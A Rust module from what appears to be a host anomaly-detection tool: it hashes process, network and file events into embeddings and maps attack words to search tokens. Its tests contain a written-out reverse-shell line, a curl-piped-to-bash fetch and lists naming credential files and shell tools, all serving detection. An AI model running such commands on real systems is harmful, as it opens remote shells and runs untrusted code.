//! Event embedding by signed feature hashing (the first seed's design),
//! improved: tokens are namespaced by field so `bash` the process and `bash`
//! an argument do not collide, random-looking path parts, numbers and hex
//! blobs are normalised so that `/tmp/tmp.X1y2Z3` and `/tmp/tmp.Q9w8E7` look
//! alike, addresses become subnet tokens, and shell operators and adjacent
//! argument pairs are tokens of their own (`| bash` is not `bash`).
//!
//! Everything goes through [`embed`]: replacing the featurizer (with a neural
//! embedding, say) is a change to this module only. The output is
//! deterministic across runs, machines and builds.

use outlier_proto::facts::{AddrClass, OpenMode, UidClass};
use outlier_proto::{Event, Protocol, event::Detail};
use xxhash_rust::xxh3::xxh3_64_with_seed;

/// Dimensions of an embedding.
pub const DIM: usize = 128;
/// Version of the featurizer; baselines built by another version are rebuilt.
pub const FEATURIZER_VERSION: u32 = 4;

/// An L2-normalised event embedding.
pub type Embedding = [f32; DIM];

const SEED: u64 = 0x6f75_746c_6965_7231; // "outlier1"

// Token weights: who ran it and what kind of action it was carry as much as
// the details; the details are spread over many tokens.
const W_KIND: f32 = 1.0;
const W_COMM: f32 = 1.0;
const W_PARENT: f32 = 1.0;
const W_EXE: f32 = 0.7;
const W_USER: f32 = 0.8;
/// Squared weight of all argument tokens together, however many there are.
const ARGS_NORM2: f32 = 2.0;
const W_CWD: f32 = 0.5;
const W_BIGRAM: f32 = 0.6;
const W_NET: f32 = 1.0;
const W_PATH: f32 = 1.0;

/// The lineage of an event's process, hashed: its kind, its parent's name
/// and its own program's name, both normalised as in [`embed`] (so
/// `runner-job-XXXX` children or numbered workers share one lineage).
pub fn lineage_key(e: &Event) -> u64 {
    lineage_hash(e, '\u{1f}', &e.parent_comm)
}

/// The lineage of an event's process under the web or database server it
/// runs under (`served_by`, however many shells between): its kind, the
/// server's name and its own program's name, normalised as in
/// [`lineage_key`]. `cat` run by a web request's `sh -c` is a lineage of
/// its own even where `cat` under `sh` is routine elsewhere on the host.
pub fn served_lineage_key(e: &Event, served_by: &str) -> u64 {
    // `php-fpm8.2` and `php-fpm8.3` are one server across an upgrade.
    let server = served_by.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    lineage_hash(e, '\u{1e}', server)
}

/// The event's kind, `above` (its parent or its server) and its program,
/// normalised and hashed; `sep` keeps the two kinds of lineage apart.
fn lineage_hash(e: &Event, sep: char, above: &str) -> u64 {
    let mut buf = String::with_capacity(48);
    buf.push_str(e.kind_name());
    buf.push(sep);
    normalize_word_into(above, &mut buf);
    buf.push(sep);
    normalize_word_into(e.program_name(), &mut buf);
    xxh3_64_with_seed(buf.as_bytes(), SEED)
}

/// Embeds one event.
pub fn embed(e: &Event) -> Embedding {
    let mut h = Hasher::default();
    h.add("kind", e.kind_name(), W_KIND);
    let comm = e.program_name();
    h.add_norm("comm", comm, W_COMM);
    h.add_norm("parent", &e.parent_comm, W_PARENT);
    // The executable and argv[0] usually repeat the process name: count them
    // only when they say something else (a renamed binary, a symlink).
    let exe = basename(&e.exe);
    if exe != comm {
        h.add_norm("exe", exe, W_EXE);
    }
    h.add("user", UidClass::of(e.uid).name(), W_USER);
    match &e.detail {
        Some(Detail::Exec(x)) => {
            let mut words = Vec::with_capacity(16);
            for (i, arg) in x.argv.iter().enumerate() {
                if i == 0 && basename(arg) == e.comm {
                    continue;
                }
                tokenize(arg, &mut words);
            }
            // The argument tokens together weigh as much as two identity
            // tokens, however long the command line is.
            let scale = (ARGS_NORM2 / words.len().max(1) as f32).sqrt();
            for w in &words {
                h.add_norm("arg", w, scale);
            }
            for pair in words.windows(2) {
                h.add_pair("bigram", &pair[0], &pair[1], W_BIGRAM * scale);
            }
            h.add_norm("cwd", &x.cwd, W_CWD);
            if x.argv_truncated {
                h.add("flag", "argv_truncated", 1.0);
            }
        }
        Some(Detail::Connect(c)) => {
            h.add("rport", &port_token(c.remote_port), W_NET);
            h.add(
                "proto",
                if c.protocol == Protocol::Udp as i32 {
                    "udp"
                } else {
                    "tcp"
                },
                0.5,
            );
            for (ns, tok) in ip_tokens(&c.remote_ip) {
                h.add(ns, &tok, W_NET * 0.7);
            }
        }
        Some(Detail::Open(o)) => {
            let norm = normalize_path(&o.path);
            h.add("path", &norm, W_PATH);
            h.add("dir", parent_dir(&norm), W_PATH * 0.7);
            h.add("oflags", OpenMode::of(o.flags).name(), W_PATH * 0.7);
        }
        None => {}
    }
    h.finish()
}

/// Embeds a plain-words query ("reverse shell bash outbound connection")
/// into the same space as events, for search. Each word is looked up in a
/// small vocabulary of security concepts that names the tokens such
/// behaviour produces (a "reverse shell" is an interactive shell whose
/// standard streams go to `/dev/tcp/…`; "outbound connection" is a connect
/// event or a `/dev/tcp` redirection); any other word matches a process,
/// parent or argument of that name. Deterministic, like [`embed`].
pub fn embed_text(query: &str) -> Embedding {
    let mut h = Hasher::default();
    let words: Vec<String> = query
        .split(|c: char| !(c.is_alphanumeric() || "-_./:@".contains(c)))
        .filter(|w| !w.is_empty())
        .map(str::to_lowercase)
        .collect();
    for pair in words.windows(2) {
        if let Some(tokens) = concept(&format!("{} {}", pair[0], pair[1])) {
            for (ns, tok, w) in tokens {
                h.add(ns, tok, *w);
            }
        }
    }
    for word in &words {
        if STOP_WORDS.contains(&word.as_str()) {
            continue;
        }
        if let Some(tokens) = concept(word) {
            for (ns, tok, w) in tokens {
                h.add(ns, tok, *w);
            }
        } else {
            // A literal name: a process, a parent, an argument.
            h.add_norm("comm", word, 1.0);
            h.add_norm("parent", word, 0.5);
            h.add_norm("arg", word, 1.0);
        }
    }
    h.finish()
}

const STOP_WORDS: &[&str] = &[
    "a",
    "an",
    "the",
    "of",
    "to",
    "from",
    "by",
    "with",
    "in",
    "on",
    "and",
    "or",
    "any",
    "that",
    "show",
    "me",
    "find",
    "like",
    "looks",
    "something",
    "anything",
    "events",
    "event",
];

type ConceptTokens = &'static [(&'static str, &'static str, f32)];

/// Vocabulary of security concepts: the tokens [`embed`] produces for the
/// behaviour a word names. Arguments are in their normalised form
/// (`/dev/tcp/<ip>/#`).
fn concept(word: &str) -> Option<ConceptTokens> {
    const SHELL: ConceptTokens = &[
        ("comm", "bash", 1.0),
        ("comm", "sh", 0.6),
        ("arg", "-i", 0.8),
        ("arg", "bash", 0.6),
        ("arg", "-c", 0.4),
    ];
    const REVERSE_SHELL: ConceptTokens = &[
        ("arg", "/dev/tcp/<ip>/#", 1.5),
        ("arg", ">&", 1.2),
        ("arg", "-i", 1.0),
        ("bigram", "-i\u{1f}>&", 0.8),
        ("comm", "bash", 0.8),
        ("comm", "nc", 0.5),
        ("arg", "-e", 0.5),
    ];
    const CONNECTION: ConceptTokens = &[
        ("kind", "connect", 1.0),
        ("arg", "/dev/tcp/<ip>/#", 0.8),
        ("ipclass", "public", 0.5),
    ];
    const DOWNLOAD: ConceptTokens = &[
        ("comm", "curl", 1.0),
        ("comm", "wget", 1.0),
        ("arg", "-fssl", 0.5),
        ("arg", "|", 0.5),
        ("arg", "-o", 0.4),
    ];
    const PIPE_TO_SHELL: ConceptTokens = &[
        ("arg", "|", 1.0),
        ("arg", "bash", 0.8),
        ("arg", "sh", 0.6),
        ("comm", "curl", 0.6),
        ("comm", "wget", 0.5),
        ("bigram", "|\u{1f}bash", 1.0),
        ("bigram", "|\u{1f}sh", 0.7),
    ];
    const CREDENTIALS: ConceptTokens = &[
        ("path", "/etc/shadow", 1.0),
        ("arg", "/etc/shadow", 1.0),
        ("path", "/etc/passwd", 0.6),
        ("arg", "/etc/passwd", 0.5),
        ("dir", "/root/.ssh", 0.6),
        ("kind", "open", 0.5),
    ];
    const PERSISTENCE: ConceptTokens = &[
        ("comm", "crontab", 1.0),
        ("dir", "/etc/cron.d", 0.8),
        ("path", "/etc/crontab", 0.8),
        ("dir", "/etc/systemd/system", 0.6),
        ("comm", "systemctl", 0.4),
        ("oflags", "create", 0.4),
    ];
    const PRIVESC: ConceptTokens = &[
        ("comm", "sudo", 1.0),
        ("user", "root", 0.8),
        ("arg", "sudo", 0.8),
        ("comm", "su", 0.5),
        ("arg", "chmod", 0.4),
        ("arg", "u+s", 0.6),
    ];
    const ENCODED: ConceptTokens = &[
        ("comm", "base64", 1.0),
        ("arg", "base64", 1.0),
        ("arg", "-d", 0.6),
        ("comm", "xxd", 0.5),
    ];
    const SCAN: ConceptTokens = &[
        ("comm", "nmap", 1.0),
        ("comm", "masscan", 0.8),
        ("comm", "nc", 0.5),
        ("arg", "-z", 0.5),
    ];
    const ROOT: ConceptTokens = &[("user", "root", 1.0)];
    const FILE_READ: ConceptTokens = &[("kind", "open", 1.0), ("oflags", "read", 0.8)];
    const FILE_WRITE: ConceptTokens = &[
        ("kind", "open", 1.0),
        ("oflags", "create", 0.8),
        ("oflags", "write", 0.8),
    ];
    const EXEC: ConceptTokens = &[("kind", "exec", 1.0)];
    Some(match word {
        "reverse shell" | "reverse" | "backconnect" | "callback" => REVERSE_SHELL,
        "shell" | "shells" | "interactive" => SHELL,
        "outbound" | "connection" | "connections" | "connect" | "network" | "egress" | "c2"
        | "beacon" => CONNECTION,
        "download" | "downloads" | "fetch" | "dropper" => DOWNLOAD,
        "pipe" | "piped" | "curl|bash" | "pipe to shell" => PIPE_TO_SHELL,
        "credential" | "credentials" | "password" | "passwords" | "secrets" | "shadow" => {
            CREDENTIALS
        }
        "persistence" | "cron" | "crontab" | "scheduled" => PERSISTENCE,
        "privilege" | "escalation" | "privesc" | "setuid" | "suid" => PRIVESC,
        "encoded" | "obfuscated" | "base64" => ENCODED,
        "scan" | "scanning" | "recon" | "discovery" => SCAN,
        "root" | "superuser" => ROOT,
        "read" | "reads" | "opened" => FILE_READ,
        "write" | "writes" | "modified" | "tamper" | "tampering" => FILE_WRITE,
        "execution" | "executed" | "process" | "command" => EXEC,
        _ => return None,
    })
}

/// Identity of a behaviour: a hash of its embedding's bytes. Identical
/// behaviour (after normalisation) has the same key.
pub fn behaviour_key(v: &Embedding) -> u64 {
    let mut bytes = [0u8; DIM * 4];
    for (chunk, x) in bytes.chunks_exact_mut(4).zip(v) {
        chunk.copy_from_slice(&x.to_le_bytes());
    }
    xxh3_64_with_seed(&bytes, u64::from(FEATURIZER_VERSION))
}

/// Dot product; equals cosine similarity for two embeddings.
#[inline]
pub fn dot(a: &Embedding, b: &Embedding) -> f32 {
    // Eight independent accumulators let the compiler vectorise the loop.
    let mut acc = [0f32; 8];
    for (ca, cb) in a.chunks_exact(8).zip(b.chunks_exact(8)) {
        for i in 0..8 {
            acc[i] += ca[i] * cb[i];
        }
    }
    acc.iter().sum()
}

/// Cosine distance (0 = same direction, 2 = opposite) of two embeddings.
#[inline]
pub fn cosine_distance(a: &Embedding, b: &Embedding) -> f32 {
    (1.0 - dot(a, b)).clamp(0.0, 2.0)
}

struct Hasher {
    v: [f32; DIM],
    buf: String,
}

impl Default for Hasher {
    fn default() -> Self {
        Self {
            v: [0.0; DIM],
            buf: String::with_capacity(64),
        }
    }
}

impl Hasher {
    fn add(&mut self, ns: &str, tok: &str, w: f32) {
        if tok.is_empty() {
            return;
        }
        self.buf.clear();
        self.buf.push_str(ns);
        self.buf.push('\u{1f}');
        self.buf.push_str(tok);
        self.bump(w);
    }

    fn add_norm(&mut self, ns: &str, tok: &str, w: f32) {
        if tok.is_empty() {
            return;
        }
        self.buf.clear();
        self.buf.push_str(ns);
        self.buf.push('\u{1f}');
        normalize_word_into(tok, &mut self.buf);
        self.bump(w);
    }

    fn add_pair(&mut self, ns: &str, a: &str, b: &str, w: f32) {
        self.buf.clear();
        self.buf.push_str(ns);
        self.buf.push('\u{1f}');
        normalize_word_into(a, &mut self.buf);
        self.buf.push('\u{1f}');
        normalize_word_into(b, &mut self.buf);
        self.bump(w);
    }

    fn bump(&mut self, w: f32) {
        let hash = xxh3_64_with_seed(self.buf.as_bytes(), SEED);
        let idx = (hash as usize) & (DIM - 1);
        let sign = if hash >> 63 == 1 { -1.0 } else { 1.0 };
        self.v[idx] += sign * w;
    }

    fn finish(mut self) -> Embedding {
        let norm = self.v.iter().map(|x| x * x).sum::<f32>().sqrt();
        if norm > 0.0 {
            for x in &mut self.v {
                *x /= norm;
            }
        }
        self.v
    }
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn port_token(port: u32) -> String {
    if port >= 32768 {
        "ephemeral".to_string()
    } else {
        port.to_string()
    }
}

fn ip_tokens(ip: &str) -> Vec<(&'static str, String)> {
    match ip.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(a)) => {
            let o = a.octets();
            vec![
                ("ipclass", AddrClass::of(a.into()).name().to_string()),
                ("net24", format!("{}.{}.{}", o[0], o[1], o[2])),
                ("net16", format!("{}.{}", o[0], o[1])),
            ]
        }
        Ok(std::net::IpAddr::V6(a)) => {
            let s = a.segments();
            vec![
                ("ipclass", AddrClass::of(a.into()).name().to_string()),
                ("net48", format!("{:x}:{:x}:{:x}", s[0], s[1], s[2])),
            ]
        }
        Err(_) => vec![("ipclass", "invalid".to_string())],
    }
}

fn parent_dir(path: &str) -> &str {
    match path.rfind('/') {
        Some(0) => "/",
        Some(i) => &path[..i],
        None => "",
    }
}

/// Splits one argument into words and shell operators. Operators (`|`, `>&`,
/// `;`, `$(` …) are kept as tokens: they carry much of the meaning of a
/// command line.
fn tokenize(arg: &str, out: &mut Vec<String>) {
    let mut word = String::new();
    let mut chars = arg.chars().peekable();
    while let Some(c) = chars.next() {
        if c.is_alphanumeric() || "-_./:@%+~*,=".contains(c) {
            word.push(c);
            continue;
        }
        if !word.is_empty() {
            out.push(std::mem::take(&mut word));
        }
        if c.is_whitespace() || c == '"' || c == '\'' || c == '\\' {
            continue;
        }
        let mut op = String::from(c);
        if let Some(&n) = chars.peek()
            && matches!(
                (c, n),
                ('>', '&')
                    | ('&', '&')
                    | ('|', '|')
                    | ('>', '>')
                    | ('$', '(')
                    | ('<', '<')
                    | ('&', '>')
            )
        {
            op.push(n);
            chars.next();
        }
        out.push(op);
    }
    if !word.is_empty() {
        out.push(word);
    }
}

/// Lower-cases a word and replaces its volatile parts: runs of four or more
/// digits become `#`, IPv4 addresses `<ip>`, long hex strings `<hex>`, and
/// random-looking path components `*`.
fn normalize_word_into(word: &str, out: &mut String) {
    if word.contains('/') {
        for (i, part) in word.split('/').enumerate() {
            if i > 0 {
                out.push('/');
            }
            normalize_component(part, out);
        }
    } else {
        normalize_component(word, out);
    }
}

fn normalize_component(part: &str, out: &mut String) {
    if part.parse::<std::net::Ipv4Addr>().is_ok() {
        out.push_str("<ip>");
        return;
    }
    let len = part.chars().count();
    let hex = part.chars().filter(char::is_ascii_hexdigit).count();
    let digits = part.chars().filter(char::is_ascii_digit).count();
    let letters = part.chars().filter(|c| c.is_alphabetic()).count();
    if len >= 12 && hex == len && digits > 0 {
        out.push_str("<hex>");
        return;
    }
    if len >= 6 && digits >= 1 && letters >= 2 && looks_random(part) {
        out.push('*');
        return;
    }
    // A random part after a fixed prefix (`runner-job-dGlLeumu`,
    // `apt-key-gpghome.XNOGY6SXaj`, php's `/tmp/phpIlJEGg`): each run of
    // letters and digits is judged alone.
    let mut token = String::new();
    for c in part.chars() {
        if c.is_alphanumeric() {
            token.push(c);
            continue;
        }
        normalize_token(&token, out);
        token.clear();
        out.extend(c.to_lowercase());
    }
    normalize_token(&token, out);
}

/// One run of letters and digits of a component: `*` when it looks like a
/// generated name ([`looks_generated`]), else lower-cased with runs of four
/// or more digits as `#`.
fn normalize_token(part: &str, out: &mut String) {
    if looks_generated(part) {
        out.push('*');
        return;
    }
    let mut run = 0usize;
    let flush = |run: &mut usize, out: &mut String, digits: &str| {
        if *run >= 4 {
            out.push('#');
        } else {
            out.push_str(digits);
        }
        *run = 0;
    };
    let mut pending = String::new();
    for c in part.chars() {
        if c.is_ascii_digit() {
            run += 1;
            pending.push(c);
        } else {
            if run > 0 {
                flush(&mut run, out, &pending);
                pending.clear();
            }
            out.extend(c.to_lowercase());
        }
    }
    if run > 0 {
        flush(&mut run, out, &pending);
    }
}

/// Letters and digits that keep switching between digit, upper and lower
/// case: a temp-file suffix, a container id, a token. Separators (`.`, `-`,
/// `_`) are ignored, so `access.log.1` or `x86_64` are not random; two
/// switches are a name (`md5sum`, `gpg.1.sh`), not a random one.
fn looks_random(s: &str) -> bool {
    let mut changes = 0;
    let mut alnum = 0;
    let mut prev = None;
    for c in s.chars().filter(|c| c.is_alphanumeric()) {
        alnum += 1;
        let class = if c.is_ascii_digit() {
            0
        } else if c.is_uppercase() {
            1
        } else {
            2
        };
        if prev.is_some_and(|p| p != class) {
            changes += 1;
        }
        prev = Some(class);
    }
    alnum >= 6 && changes >= 3 && changes * 3 >= alnum
}

/// A run of letters and digits (no separators) that a program generated
/// rather than a person named: eight or more characters that mix upper
/// case, lower case and digits, or that switch between upper and lower case
/// at least three times and as often as every third character (`dGlLeumu`,
/// `IlJEGg…`). Words and identifiers switch less (`PackageKit`,
/// `NetworkManager`, `PostgreSQL`); names of six or seven characters
/// (`md5sum`, `sha1sum`) are never judged.
fn looks_generated(t: &str) -> bool {
    let len = t.chars().count();
    if len < 8 {
        return false;
    }
    let upper = t.chars().any(char::is_uppercase);
    let lower = t.chars().any(char::is_lowercase);
    let digit = t.chars().any(|c| c.is_ascii_digit());
    if upper && lower && digit {
        return true;
    }
    let mut changes = 0;
    let mut prev = None;
    for c in t.chars().filter(|c| c.is_alphabetic()) {
        let up = c.is_uppercase();
        if prev.is_some_and(|p| p != up) {
            changes += 1;
        }
        prev = Some(up);
    }
    upper && lower && changes >= 3 && changes * 3 >= len
}

/// Normalises a path for embedding: volatile components become `*`/`#`.
pub fn normalize_path(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    normalize_word_into(path, &mut out);
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn thread_names_do_not_make_new_programs() {
        use outlier_proto::{Open, event::Detail};
        let open = |comm: &str, exe: &str| Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            comm: comm.into(),
            parent_comm: "cargo".into(),
            exe: exe.into(),
            detail: Some(Detail::Open(Open {
                path: "/tmp/t/x.o".into(),
                flags: 0o1101,
                ..Open::default()
            })),
            ..Event::default()
        };
        let rustc = "/usr/lib/rust/bin/rustc";
        let a = open("opt 4ax0x0y7gof", rustc);
        let b = open("opt 83hx6l7c2xc", rustc);
        assert_eq!(a.program_name(), "rustc");
        assert_eq!(lineage_key(&a), lineage_key(&b));
        assert_eq!(embed(&a), embed(&b));
        // A name that is the executable's (cut at 15 bytes) stays.
        let long = open("postgres-worker", "/usr/lib/pg/postgres-worker-pool");
        assert_eq!(long.program_name(), "postgres-worker");
        // A different program is a different lineage.
        assert_ne!(lineage_key(&a), lineage_key(&open("sh", "/usr/bin/sh")));
        // Under a server: another key than the parent's lineage, the same
        // for threads of one program and across the server's upgrade.
        assert_ne!(served_lineage_key(&a, "cargo"), lineage_key(&a));
        assert_eq!(
            served_lineage_key(&a, "php-fpm8.2"),
            served_lineage_key(&b, "php-fpm8.3")
        );
        assert_ne!(
            served_lineage_key(&a, "php-fpm8.2"),
            served_lineage_key(&a, "postgres")
        );
    }

    use super::*;
    use outlier_proto::{Connect, Exec, Open};
    use proptest::prelude::*;

    fn exec(comm: &str, parent: &str, uid: u32, argv: &[&str]) -> Event {
        Event {
            comm: comm.into(),
            parent_comm: parent.into(),
            uid,
            exe: format!("/usr/bin/{comm}"),
            detail: Some(Detail::Exec(Exec {
                argv: argv.iter().map(|s| s.to_string()).collect(),
                argc: argv.len() as u32,
                ..Exec::default()
            })),
            ..Event::default()
        }
    }

    #[test]
    fn unit_norm_and_deterministic() {
        let e = exec("bash", "sshd", 1000, &["bash", "--login"]);
        let a = embed(&e);
        let b = embed(&e);
        assert_eq!(a, b);
        assert!((dot(&a, &a) - 1.0).abs() < 1e-5);
        // A fixed point pins the hash function and the token layout: a
        // change to either changes every stored baseline and must bump
        // FEATURIZER_VERSION.
        let nz: Vec<usize> = a
            .iter()
            .enumerate()
            .filter(|(_, x)| **x != 0.0)
            .map(|(i, _)| i)
            .collect();
        assert_eq!(
            (behaviour_key(&a), nz),
            (8_800_521_669_505_002_661, vec![62, 79, 87, 89, 96]),
            "the featurizer's output changed: bump FEATURIZER_VERSION and update this golden"
        );
    }

    #[test]
    fn reverse_shell_is_far_from_a_login_shell() {
        let login = embed(&exec("bash", "sshd", 1000, &["bash", "--login"]));
        let revshell = embed(&exec(
            "bash",
            "nginx",
            33,
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        ));
        assert!(
            cosine_distance(&login, &revshell) > 0.5,
            "{}",
            cosine_distance(&login, &revshell)
        );
    }

    #[test]
    fn similar_commands_are_closer_than_unrelated_ones() {
        let a = embed(&exec(
            "tar",
            "bash",
            0,
            &[
                "tar",
                "czf",
                "/backup/db-20241101.tgz",
                "/var/lib/postgresql",
            ],
        ));
        let b = embed(&exec(
            "tar",
            "bash",
            0,
            &[
                "tar",
                "czf",
                "/backup/db-20241102.tgz",
                "/var/lib/postgresql",
            ],
        ));
        let c = embed(&exec(
            "curl",
            "bash",
            0,
            &["curl", "-s", "http://203.0.113.7/x.sh"],
        ));
        assert!(
            cosine_distance(&a, &b) < 0.05,
            "{}",
            cosine_distance(&a, &b)
        );
        assert!(cosine_distance(&a, &b) < cosine_distance(&a, &c));
    }

    #[test]
    fn words_find_the_behaviour_they_name() {
        let revshell = embed(&exec(
            "bash",
            "php-fpm8.2",
            33,
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        ));
        let others = [
            embed(&exec("nginx", "nginx", 33, &["nginx: worker process"])),
            embed(&exec("bash", "sshd", 1000, &["-bash"])),
            embed(&exec(
                "curl",
                "bash",
                0,
                &["curl", "-s", "https://example.org/health"],
            )),
            embed(&exec(
                "tar",
                "cron",
                0,
                &["tar", "czf", "/backup/x.tgz", "/etc"],
            )),
        ];
        let q = embed_text("reverse shell bash outbound connection");
        let hit = dot(&q, &revshell);
        for o in &others {
            assert!(hit > dot(&q, o) + 0.1, "{hit} vs {}", dot(&q, o));
        }
        assert_eq!(embed_text("Reverse SHELL"), embed_text("reverse shell"));
    }

    #[test]
    fn volatile_parts_are_normalised() {
        assert_eq!(normalize_path("/tmp/tmp.aB3xYz9Q1/run"), "/tmp/*/run");
        assert_eq!(normalize_path("/proc/12345/status"), "/proc/#/status");
        assert_eq!(
            normalize_path("/var/log/nginx/access.log.1"),
            "/var/log/nginx/access.log.1"
        );
        assert_eq!(
            normalize_path("/usr/lib/x86_64-linux-gnu/libc.so.6"),
            "/usr/lib/x86_64-linux-gnu/libc.so.6"
        );
        assert_eq!(normalize_path("/usr/bin/sha256sum"), "/usr/bin/sha256sum");
        assert_eq!(normalize_path("/opt/deadbeefcafe0123/x"), "/opt/<hex>/x");
        // Generated suffixes after a fixed prefix.
        assert_eq!(
            normalize_path("/tmp/runner-job-dGlLeumu/artifact-13.tar.gz"),
            "/tmp/runner-job-*/artifact-13.tar.gz"
        );
        assert_eq!(
            normalize_path("/tmp/apt-key-gpghome.XNOGY6SXaj/pubring.gpg"),
            "/tmp/apt-key-gpghome.*/pubring.gpg"
        );
        assert_eq!(
            normalize_path("/tmp/apt-key-gpghome.wmAahSsEav"),
            "/tmp/apt-key-gpghome.*"
        );
        assert_eq!(normalize_path("/tmp/repIlJEGg"), "/tmp/*");
        assert_eq!(
            normalize_path("/dev/shm/PostgreSQL.2327759668"),
            "/dev/shm/postgresql.#"
        );
        // Names people give stay.
        for kept in [
            "/usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service",
            "/etc/NetworkManager/NetworkManager.conf",
            "/usr/bin/md5sum",
            "/etc/apt/trusted.gpg.d/gpg.1.sh",
            "/usr/lib/python3/dist-packages/LibreOffice",
            "/home/dev/project/src/ModSecurity-rules.conf",
            "/opt/app/WebRequest.php",
        ] {
            assert_eq!(normalize_path(kept), kept.to_lowercase(), "{kept}");
        }
        let mut s = String::new();
        normalize_word_into("10.0.0.1", &mut s);
        assert_eq!(s, "<ip>");
    }

    #[test]
    fn tokenizer_keeps_shell_operators() {
        let mut out = Vec::new();
        tokenize("curl -s http://x/y.sh | bash", &mut out);
        assert_eq!(out, ["curl", "-s", "http://x/y.sh", "|", "bash"]);
        out.clear();
        tokenize("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", &mut out);
        assert_eq!(
            out,
            ["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0", ">&", "1"]
        );
    }

    #[test]
    fn connect_and_open_embed_their_details() {
        let c = |ip: &str, port| Event {
            comm: "curl".into(),
            detail: Some(Detail::Connect(Connect {
                remote_ip: ip.into(),
                remote_port: port,
                ..Connect::default()
            })),
            ..Event::default()
        };
        let same_subnet = cosine_distance(
            &embed(&c("203.0.113.7", 443)),
            &embed(&c("203.0.113.9", 443)),
        );
        let other_port = cosine_distance(
            &embed(&c("203.0.113.7", 443)),
            &embed(&c("203.0.113.7", 4444)),
        );
        assert!(same_subnet < other_port, "{same_subnet} {other_port}");
        let o = |path: &str, flags| Event {
            comm: "cat".into(),
            detail: Some(Detail::Open(Open {
                path: path.into(),
                flags,
                ..Open::default()
            })),
            ..Event::default()
        };
        assert!(
            cosine_distance(
                &embed(&o("/etc/shadow", 0)),
                &embed(&o("/etc/shadow", 0o101))
            ) > 0.0
        );
    }

    proptest! {
        #[test]
        fn any_event_embeds_to_unit_norm_or_zero(
            comm in ".{0,20}", parent in ".{0,20}", uid in any::<u32>(),
            argv in proptest::collection::vec(".{0,40}", 0..10),
        ) {
            let args: Vec<&str> = argv.iter().map(String::as_str).collect();
            let v = embed(&exec(&comm, &parent, uid, &args));
            let n = dot(&v, &v);
            prop_assert!((n - 1.0).abs() < 1e-4, "norm {}", n);
            prop_assert!(v.iter().all(|x| x.is_finite()));
            prop_assert_eq!(v, embed(&exec(&comm, &parent, uid, &args)));
        }
    }
}
